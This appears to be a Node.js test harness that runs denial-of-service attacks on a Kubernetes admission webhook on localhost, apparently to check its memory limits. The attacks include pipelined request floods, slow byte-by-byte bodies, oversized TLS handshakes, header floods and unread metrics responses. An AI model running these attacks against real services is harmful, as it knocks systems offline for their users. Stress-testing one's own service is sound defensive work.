// Attacks the webhook's memory: node attackers.mjs ATTACK COUNT PORT PROBE_PORT. A separate process, because it uses more
// CPU than the webhook. Prints "under way" when everything is sent, and runs until it is stopped.
import { once } from 'node:events';
import { connect as connectPlain } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { connect } from 'node:tls';

const [, , attack, count, port, probePort] = process.argv;
const HOST = '127.0.0.1';
const MIB = 1024 * 1024;
const SECRET = {
  apiVersion: 'v1',
  kind: 'Secret',
  metadata: { name: 'abuse', labels: { 'ecr-anywhere.centml.ai/managed': 'true' } },
  type: 'kubernetes.io/dockerconfigjson',
};

/** A request with the review of a Secret, new or stored before. */
function post(changes = {}, oldObject = null) {
  const body = JSON.stringify({
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: {
      uid: 'abuse',
      kind: { group: '', version: 'v1', kind: 'Secret' },
      resource: { group: '', version: 'v1', resource: 'secrets' },
      operation: oldObject === null ? 'CREATE' : 'UPDATE',
      object: { ...SECRET, ...changes },
      oldObject,
    },
  });
  return head(Buffer.byteLength(body)) + body;
}

/** A Secret as the webhook fills it, with a mark. */
async function marked(mark) {
  const socket = await secure();
  socket.write(post({ data: {}, metadata: { ...SECRET.metadata, annotations: {} } }));
  let answer = '';
  while (!/"patch":"[^"]+"/.test(answer)) answer += (await once(socket, 'data'))[0];
  const patch = JSON.parse(Buffer.from(/"patch":"([^"]+)"/.exec(answer)[1], 'base64'));
  const [password, ...annotations] = patch.map(({ path, value }) => [
    path.split('/').at(-1).replace('~1', '/'),
    value,
  ]);
  annotations.push(['ecr-anywhere.centml.ai/marked_for_update_at', mark]);
  return {
    ...SECRET,
    metadata: { ...SECRET.metadata, annotations: Object.fromEntries(annotations) },
    data: Object.fromEntries([password]),
  };
}

function head(length) {
  return `POST /sync?timeout=30s HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
}

/** Does the work COUNT times, twenty at a time. */
async function times(work) {
  let done = 0;
  const lane = async () => {
    while (done++ < Number(count)) await work();
  };
  await Promise.all(Array.from({ length: 20 }, lane));
}

/** Resolves when the connection is open or has failed. The connection is read until it is paused. */
async function opened(socket, event) {
  socket.on('error', () => undefined);
  await new Promise((done) => socket.once(event, done).once('close', done));
  return socket.resume();
}

/** Resumes TLS sessions to save CPU. */
let session;
const secure = () => {
  const socket = connect({ port: Number(port), host: HOST, rejectUnauthorized: false, session });
  socket.on('session', (last) => (session = last));
  return opened(socket, 'secureConnect');
};
const plain = (to = port) => opened(connectPlain(Number(to), HOST), 'connect');

function forEver(socket, milliseconds, work) {
  const timer = setInterval(work, milliseconds);
  socket.once('close', () => clearInterval(timer));
}

/** The beginning of the longest ClientHello that OpenSSL accepts, in records of 16,000 bytes. */
function largeHello() {
  const records = Array.from({ length: 7 }, () => {
    const record = Buffer.alloc(16_005, 3);
    record.set([22, 3, 1, 16_000 >> 8, 16_000 & 255]);
    return record;
  });
  records[0].set([1, 1, 0xff, 0xb8], 5);
  return Buffer.concat(records);
}

const ATTACKS = {
  /** Small reviews on one connection, sent without waiting for answers. */
  async pipelined() {
    const socket = await secure();
    for (let sent = 0; sent < Number(count); sent += 1_000) socket.write(post().repeat(1_000));
  },

  /** One review on each connection. */
  async 'ordinary reviews'() {
    const review = post({ data: { '.dockerconfigjson': 'x'.repeat(7_600) } });
    await times(async () => (await secure()).write(review));
  },
  async 'reviews of 32 KB'() {
    const review = post({ data: { '.dockerconfigjson': 'x'.repeat(16_000) }, pad: 'x'.repeat(15_000) });
    await times(async () => (await secure()).write(review));
  },

  /** Reviews of which the webhook keeps only what stays in connection buffers. */
  async 'reviews of 60 KB'() {
    const review = post({ pad: 'x'.repeat(60_000) });
    await times(async () => (await secure()).write(review));
  },

  /** Reviews with long refusals. The attacker does not read the answers. */
  async 'long types'() {
    const review = post({ type: '"'.repeat(4 * MIB - 500) });
    await times(async () => (await secure()).pause().write(review));
  },

  /** Reviews of supposedly stored Secrets with much content to restore. */
  async 'long marks'() {
    const review = post({}, await marked('x'.repeat(4 * MIB)));
    await times(async () => (await secure()).pause().write(review));
  },

  async 'idle connections'() {
    await times(secure);
  },

  /** Idle connections that look like those of the API server. */
  async 'idle connections after a review'() {
    const review = post();
    await times(async () => {
      const socket = await secure();
      socket.write(review);
      await new Promise((done) => socket.once('data', done).once('close', done));
    });
  },

  /** Handshakes that never end. */
  async 'silent connections'() {
    await times(() => plain());
  },
  async 'large handshakes'() {
    const hello = largeHello();
    await times(async () => (await plain()).write(hello));
  },

  /** Bodies that are sent byte by byte. */
  async 'slow bodies'() {
    await times(async () => {
      const socket = await secure();
      socket.write(head(60_000) + ' '.repeat(20_000));
      forEver(socket, 1_000, () => socket.write(' '));
    });
  },

  /**
   * Bodies that never end. Until then, the connections look like those of the API server. The attacker opens them slowly,
   * so the first bodies are late when no more room is left.
   */
  async 'known slow bodies'() {
    const review = post();
    await times(async () => {
      const socket = await secure();
      socket.write(review);
      await new Promise((done) => socket.once('data', done).once('close', done));
      socket.write(head(8_000) + ' '.repeat(100));
      forEver(socket, 1_000, () => socket.write(' '));
      await sleep(150);
    });
  },

  /** Headers without values, before a body that is never sent. Each header uses far more memory than bytes. */
  async 'many headers'() {
    const names = Array.from({ length: 1_900 }, (_, index) => `z${index.toString(36)}:\r\n`);
    const request = head(60_000).replace(/\r\n$/, `${names.join('')}\r\n`);
    await times(async () => (await secure()).write(request));
  },

  /** Unread answers of the port without TLS. */
  async 'unread metrics'() {
    const request = 'GET /metrics HTTP/1.1\r\nHost: webhook\r\n\r\n';
    await times(async () => {
      const socket = (await plain(probePort)).pause();
      forEver(socket, 100, () => socket.write(request));
    });
  },
};

await ATTACKS[attack]();
console.log('under way');
setInterval(() => undefined, 1_000);
